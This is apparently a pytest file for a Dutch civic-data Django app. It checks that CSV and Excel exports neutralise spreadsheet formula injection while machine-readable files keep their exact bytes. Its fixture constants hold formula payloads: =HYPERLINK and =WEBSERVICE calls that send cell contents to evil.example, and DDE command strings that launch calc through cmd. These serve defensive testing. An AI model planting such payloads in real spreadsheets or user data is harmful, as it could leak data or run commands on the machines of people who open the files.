"""Every download, with text that a spreadsheet would run as a formula in every field it can reach.

Spreadsheets meant for people (CSV and Excel) must show that text as text: a cell never starts
with ``= + - @``, a tab or a line break, also not when the file is opened with another list
separator (a Dutch Excel splits a CSV at ``;``), and numbers stay numbers. Files for programs
(Pabulib, the survey results that ``wijkkompas import`` reads back, the command line's CSV) keep
every byte as it was. The table of downloads is checked against the URL map, so a new download
cannot skip these tests.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Literal

import pandas as pd
import pytest
from django.db import transaction
from django.http import HttpResponse
from django.test import Client
from django.urls import get_resolver
from openpyxl import load_workbook

from wijkkompas.budgeting.pabulib import parse_pabulib
from wijkkompas.store import AnalyticStore, ImportBatch
from wijkkompas.web.apps.accounts import roles
from wijkkompas.web.apps.accounts.models import Organisation
from wijkkompas.web.apps.participation.models.budget import BudgetProject
from wijkkompas.web.apps.participation.selectors import surveys
from wijkkompas.web.apps.plans import services
from wijkkompas.web.apps.plans.models import Intervention

from .conftest import FAST_HASHERS, client_for
from .world import World, build_world

pytestmark = pytest.mark.django_db

BUURT = "BU99990000"
TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
LEAD = "@SUM(1+1)*cmd|' /C calc'!A0"
PARTNER = "+31 20 555 0000 (Gemeente Test)"
SEMICOLON = 'Welzijn Test;=HYPERLINK("http://evil.example/","x")'
SOURCE_COLUMN = "-2+3+cmd|' /C calc'!A0"
BATCH = '=WEBSERVICE("http://evil.example/?"&A2)'

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""What a spreadsheet reads as the start of a formula (OWASP, CSV Injection)."""


@pytest.fixture(scope="module")
def injected_store(tmp_path_factory: pytest.TempPathFactory, demo_store: Path) -> Path:
    """The demo store plus one figure for the buurt whose source column is a formula and whose
    value is negative, as a crafted file imported by an analyst would leave it."""
    path = tmp_path_factory.mktemp("injected") / "wijkkompas.duckdb"
    path.write_bytes(demo_store.read_bytes())
    observations = pd.DataFrame(
        [(BUURT, 2024, "woz_value", "2024", -5.0, False, SOURCE_COLUMN, "definitief")],
        columns=[
            "region_code",
            "region_year",
            "indicator_id",
            "period",
            "value",
            "suppressed",
            "source_column",
            "release",
        ],
    )
    AnalyticStore(path).import_batch(
        ImportBatch(source="test-injection", description="formulas", observations=observations)
    )
    return path


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, demo_store: Path) -> Iterator[World]:
    """The role world with formulas where people type text: an intervention title,
    organisation names, a residents' project title; plus a negative spending correction."""
    from django.conf import settings

    old = settings.WIJKKOMPAS_STORE, settings.PASSWORD_HASHERS
    settings.WIJKKOMPAS_STORE, settings.PASSWORD_HASHERS = demo_store, FAST_HASHERS
    with django_db_blocker.unblock(), transaction.atomic():
        world = build_world()
        assert world.intervention is not None
        for key, amount in (("gemeente", 5000), ("welzijn", 2500)):
            services.set_budget(
                user=world.users[roles.COORDINATOR],
                intervention=world.intervention,
                organisation=world.orgs[key],
                year=2023,
                amount=Decimal(amount),
            )
        services.record_spending(
            user=world.users[roles.COORDINATOR],
            intervention=world.intervention,
            organisation=world.orgs["corporatie"],
            year=2023,
            amount=Decimal("-250.00"),
            note="correctie",
        )
        for key, name in (("corporatie", LEAD), ("gemeente", PARTNER), ("welzijn", SEMICOLON)):
            Organisation.objects.filter(pk=world.orgs[key].pk).update(name=name)
        Intervention.objects.filter(pk=world.intervention.pk).update(title=TITLE)
        BudgetProject.objects.filter(budget=world.participation["result"], number=1).update(
            title=TITLE
        )
        yield world
        transaction.set_rollback(True)
    settings.WIJKKOMPAS_STORE, settings.PASSWORD_HASHERS = old


@pytest.fixture(autouse=True)
def _on_the_injected_store(settings, injected_store: Path) -> None:
    settings.WIJKKOMPAS_STORE = injected_store


Fetch = Callable[[World], HttpResponse]
Kind = Literal["people", "machine", "other"]


@dataclass(frozen=True)
class Download:
    name: str
    kind: Kind
    fetch: Fetch | None = None
    injected: tuple[str, ...] = ()
    """Texts that must arrive, whole and inert."""
    negative: str | None = None
    """A column whose negative numbers must stay numbers."""


def _get(role: str, url: Callable[[World], str]) -> Fetch:
    def fetch(world: World) -> HttpResponse:
        client = client_for(role, world) if role != "anonymous" else Client()
        response = client.get(url(world))
        assert response.status_code == 200, response.content[:300]
        return response

    return fetch


def _codes(world: World) -> HttpResponse:
    client = client_for(roles.ADMIN, world)
    response = client.post("/meedoen/codes/", {"area_code": "WK999901", "count": 3, "batch": BATCH})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return response


DOWNLOADS = [
    Download(
        "plans:export_csv",
        "people",
        _get("anonymous", lambda w: f"/plannen/{w.plan.pk}/begroting.csv"),
        (TITLE, LEAD, PARTNER, SEMICOLON),
        negative="uitgegeven (euro)",
    ),
    Download(
        "plans:export_xlsx",
        "people",
        _get("anonymous", lambda w: f"/plannen/{w.plan.pk}/begroting.xlsx"),
        (TITLE, LEAD, PARTNER, SEMICOLON),
        negative="uitgegeven (euro)",
    ),
    Download(
        "monitor:waarnemingen_csv",
        "people",
        _get("anonymous", lambda w: f"/regio/{BUURT}/waarnemingen.csv"),
        (SOURCE_COLUMN,),
        negative="value",
    ),
    Download(
        "monitor:scores_csv",
        "people",
        _get("anonymous", lambda w: f"/regio/{BUURT}/scores.csv"),
        negative="total",
    ),
    Download(
        "monitor:gegevens_xlsx",
        "people",
        _get("anonymous", lambda w: f"/regio/{BUURT}/gegevens.xlsx"),
        (SOURCE_COLUMN,),
        negative="value",
    ),
    Download("participation:codes", "people", _codes, (BATCH,)),
    Download(
        "participation:survey_results_csv",
        "machine",
        _get(
            roles.ADMIN,
            lambda w: f"/meedoen/enquetes/{w.participation['survey'].pk}/resultaten.csv",
        ),
    ),
    Download(
        "participation:budget_pabulib",
        "machine",
        _get(
            "anonymous", lambda w: f"/meedoen/begrotingen/{w.participation['result'].pk}/stemmen.pb"
        ),
    ),
    Download("plans:export_pdf", "other"),
    Download("monitor:rapport_pdf", "other"),
    Download("monitor:geopackage", "other"),
    Download("monitor:buurten_geojson", "other"),
    Download("participation:initiative_photo", "other"),
    Download("api-v1:openapi-json", "other"),
]
PEOPLE = [d for d in DOWNLOADS if d.kind == "people"]


def _file_routes() -> set[str]:
    """Every URL name whose route ends in a file name extension."""
    names: set[str] = set()

    def walk(patterns, namespace: str = "", prefix: str = "") -> None:
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if hasattr(pattern, "url_patterns"):
                ns = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, ns, route)
            elif re.search(r"\.[A-Za-z0-9]+\$?$", route):
                names.add(namespace + str(pattern.name))

    walk(get_resolver().url_patterns)
    return names


def test_every_file_download_is_in_the_table() -> None:
    listed = {d.name for d in DOWNLOADS}
    assert _file_routes() <= listed, "a new download: add it to DOWNLOADS (people, machine, other)"
    assert listed - _file_routes() == {"participation:codes"}  # a CSV answered to a POST


def test_spreadsheet_bytes_are_made_in_one_place() -> None:
    """A download without a file extension cannot slip past the table either: the web app
    writes CSV and Excel only through :mod:`wijkkompas.web.spreadsheet`."""
    web = Path(__file__).resolve().parents[3] / "src" / "wijkkompas" / "web"
    writers = re.compile(
        r"text/csv|spreadsheetml|openpyxl|csv\.writer|csv\.DictWriter|to_csv\(|to_excel\("
    )
    offenders = [
        str(path.relative_to(web))
        for path in web.rglob("*.py")
        if path.name != "spreadsheet.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# --- what a spreadsheet program would see ------------------------------------------------


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _assert_inert_csv(text: str) -> None:
    """No cell starts a formula: not with the file's own comma, nor split at a semicolon or a tab
    the way a spreadsheet with another list separator splits it."""
    for delimiter in (",", ";", "\t"):
        for row in _csv_rows(text, delimiter):
            for cell in row:
                assert not cell.startswith(TRIGGERS) or _is_number(cell), (delimiter, cell)
    for line in text.splitlines():
        assert not line.startswith(TRIGGERS), line


def _assert_inert_xlsx(body: bytes) -> list[list[object]]:
    """No formula anywhere; text that looks like one is a string cell with Excel's quote
    prefix, so it stays text even when someone edits the cell."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(body))
    rows: list[list[object]] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
    return rows


def _inert_form(text: str) -> str:
    """How a CSV shows ``text``: a leading apostrophe where a cell could start a formula."""
    text = re.sub(r"([;\t\r\n])(?=[=+\-@\t\r\n])", r"\1'", text)
    return "'" + text if text.startswith(TRIGGERS) else text


@pytest.mark.parametrize("download", PEOPLE, ids=lambda d: d.name)
def test_spreadsheets_for_people_show_formulas_as_text(download: Download, world: World) -> None:
    assert download.fetch is not None
    response = download.fetch(world)
    body = b"".join(response) if response.streaming else response.content  # type: ignore[attr-defined]
    if response["Content-Type"].startswith("text/csv"):
        text = body.decode("utf-8")
        _assert_inert_csv(text)
        cells = {cell for row in _csv_rows(text) for cell in row}
        for injected in download.injected:
            assert _inert_form(injected) in cells
            assert '"' + _inert_form(injected).replace('"', '""') + '"' in text  # quoted
    else:
        cells = {cell for row in _assert_inert_xlsx(body) for cell in row}
        for injected in download.injected:
            assert injected in cells  # people read exactly what was typed


@pytest.mark.parametrize("download", [d for d in PEOPLE if d.negative], ids=lambda d: d.name)
def test_negative_numbers_stay_numbers(download: Download, world: World) -> None:
    assert download.fetch is not None and download.negative is not None
    response = download.fetch(world)
    if response["Content-Type"].startswith("text/csv"):
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        negatives = [r[download.negative] for r in rows if r[download.negative].startswith("-")]
        assert negatives and all(_is_number(v) for v in negatives)
        raw = response.content.decode()
        assert all(f",{v}," in raw or f",{v}\n" in raw for v in negatives)  # unquoted
    else:
        workbook = load_workbook(io.BytesIO(response.content))
        numbers = []
        for sheet in workbook.worksheets:
            header = [c.value for c in sheet[1]]
            if download.negative in header:
                column = header.index(download.negative)
                numbers += [
                    r[column] for r in sheet.iter_rows(min_row=2) if r[column].value is not None
                ]
        negatives = [c for c in numbers if isinstance(c.value, int | float) and c.value < 0]
        assert negatives and all(c.data_type == "n" for c in negatives)


# --- files for programs are left exactly as programs expect -------------------------------


def test_the_pabulib_file_keeps_project_titles_verbatim(world: World) -> None:
    download = next(d for d in DOWNLOADS if d.name == "participation:budget_pabulib")
    assert download.fetch is not None
    text = download.fetch(world).content.decode()
    instance = parse_pabulib(text)
    assert TITLE in {p.fields.get("name") for p in instance.projects}
    assert "'=" not in text


def test_the_survey_results_are_the_documented_file_for_wijkkompas_import(world: World) -> None:
    download = next(d for d in DOWNLOADS if d.name == "participation:survey_results_csv")
    assert download.fetch is not None
    response = download.fetch(world)
    assert response.content.decode() == surveys.results_csv(world.participation["survey"])
    assert response.content.decode().startswith("source,region_code,region_year,")  # unquoted


def test_the_command_line_csv_is_for_programs(tmp_path: Path, injected_store: Path) -> None:
    """``wijkkompas index --format csv`` writes text and negative numbers exactly as they are."""
    store = tmp_path / "cli.duckdb"
    store.write_bytes(injected_store.read_bytes())
    regions = pd.DataFrame(
        [(BUURT, TITLE, "buurt", 2024, "GM9999", "WK999900")],
        columns=["code", "name", "level", "year", "gemeente_code", "wijk_code"],
    )
    AnalyticStore(store).import_batch(
        ImportBatch(source="test-injection", description="a name", regions=regions)
    )
    result = subprocess.run(
        [sys.executable, "-m", "wijkkompas", "--store", str(store), "index", "--gemeente",
         "GM9999", "--year", "2024", "--format", "csv", "--draws", "0", "--no-save"],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert TITLE in {r["name"] for r in rows}
    assert any(r["total"].startswith("-") and _is_number(r["total"]) for r in rows)
    assert "'-" not in result.stdout and "'=" not in result.stdout


@pytest.mark.parametrize(
    ("typed", "in_a_csv"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("+31 20 555 0000", "'+31 20 555 0000"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t'=1+1"),
        ("Buurtfeest;=1+1", "Buurtfeest;'=1+1"),
        ("regel\n-1", "regel\n'-1"),
        ("Speeltuin (€ 10,-)", "Speeltuin (€ 10,-)"),
        ("Wijk - Noord", "Wijk - Noord"),
        ("e-mail@example.org", "e-mail@example.org"),
    ],
)
def test_which_text_gets_an_apostrophe(typed: str, in_a_csv: str) -> None:
    from wijkkompas.web.spreadsheet import inert_text

    assert inert_text(typed) == in_a_csv
